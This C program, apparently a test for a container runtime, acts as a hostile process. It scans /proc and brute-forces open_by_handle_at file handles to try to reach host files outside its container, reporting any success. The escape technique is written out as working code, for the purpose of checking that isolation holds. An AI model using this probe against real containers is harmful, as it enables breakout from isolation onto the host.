/* A hostile application: it tries to open files of the host by their handles.
 * SPDX-License-Identifier: Apache-2.0
 *
 *	handles         says "up", then looks at every other process of its container as fast as it
 *can
 *
 * It opens their program and their root directory, and asks the file system that each is on for
 * inodes by number, in handles of every type (open_by_handle_at(2)).  It needs CAP_DAC_READ_SEARCH,
 * and CAP_SYS_PTRACE for processes of other capabilities.  What is not its own file system must
 *give it nothing: it says "looked at PLACE" once, and "reached PLACE type T inode N" where one was
 *opened.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { INODES = 64 }; /* the low numbers: an ext4's root is 2, a tmpfs' root 1, an overlay's any */

struct request {
	struct file_handle head;
	uint32_t words[8];
};

static dev_t own; /* the container's root */

static bool opens(int place, int type, unsigned bytes, uint32_t inode)
{
	struct request request = { .head = { .handle_bytes = bytes, .handle_type = type } };
	int fd;

	memset(request.words, 0, sizeof(request.words));
	memcpy(request.head.f_handle, &inode, sizeof(inode));
	fd = open_by_handle_at(place, &request.head, O_PATH);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

/* Ask for it under every common type and length; the generation is unknown, and 0 is any. */
static void ask(const char *name, int place)
{
	static const unsigned lengths[] = { 4, 8, 12, 16, 20, 24, 32 };

	for (int type = 0; type < 256; type++)
		for (size_t i = 0; i < sizeof(lengths) / sizeof(lengths[0]); i++)
			for (uint32_t inode = 1; inode <= (type <= 2 ? INODES : 2); inode++)
				if (opens(place, type, lengths[i], inode)) {
					printf("reached %s type %d inode %u\n", name, type, inode);
					fflush(stdout);
					return;
				}
}

/* What the process itself is asked for can name other files too. */
static void look(int pid, const char *name)
{
	static bool said[2];
	char path[64];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return;
	if (fstat(fd, &st) == 0 && st.st_dev != own) {
		if (!said[*name == 'r'])
			printf("looked at %s\n", name);
		said[*name == 'r'] = true;
		fflush(stdout);
		ask(name, fd);
	}
	close(fd);
}

int main(void)
{
	struct stat root;

	if (stat("/", &root) < 0)
		return 1;
	own = root.st_dev;
	puts("up");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");

		if (!proc)
			return 1;
		for (const struct dirent *entry; (entry = readdir(proc));) {
			int pid = atoi(entry->d_name);

			if (pid <= 1)
				continue;
			look(pid, "exe");
			look(pid, "root/proc/fs/nfsd");
		}
		closedir(proc);
	}
}
